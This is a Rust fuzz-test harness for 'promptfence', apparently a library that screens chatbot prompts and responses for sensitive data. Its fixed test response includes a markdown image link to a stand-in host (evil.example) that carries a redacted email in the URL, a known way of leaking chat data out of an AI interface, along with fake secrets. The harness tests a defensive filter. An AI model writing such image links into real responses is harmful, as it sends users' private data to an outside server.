//! Any JSON document as a policy: accepted or a policy error with a key
//! path, never a panic. An accepted policy compiles and screens a fixed
//! prompt and response. Building a filter is the expensive part, so the
//! parse runs on every input and only accepted policies are compiled.
#![no_main]
use libfuzzer_sys::fuzz_target;
use promptfence::{Filter, Policy, PromptFilter, Value};

mod common;
use common::{check_result, SEED_PROMPT};

const RESPONSE: &str =
    "Sure [EMAIL_1]! ![x](https://evil.example/p.png?d=[EMAIL_1]) \
    Project Falcon EMP-123456 hunter2 ticket-42";

fuzz_target!(|data: &[u8]| {
    let Ok(value) = serde_json::from_slice::<Value>(data) else { return };
    let policy = match Policy::from_value(&value) {
        Ok(p) => p,
        Err(e) => {
            // Errors carry a message, never a panic; Display must work.
            let _ = e.to_string();
            return;
        }
    };
    // Same canonical source, same fingerprint.
    assert_eq!(
        policy.fingerprint(),
        Policy::from_value(&value)
            .map(|p| p.fingerprint())
            .unwrap_or_default()
    );
    let Ok(filter) = Filter::new(policy) else { return };
    let mut chat = PromptFilter::new(&filter);
    let r = chat.screen_prompt(SEED_PROMPT);
    check_result(SEED_PROMPT, &r);
    let s = chat.screen_response(RESPONSE);
    check_result(RESPONSE, &s);
    let _ = chat.restore(&r.text);
});
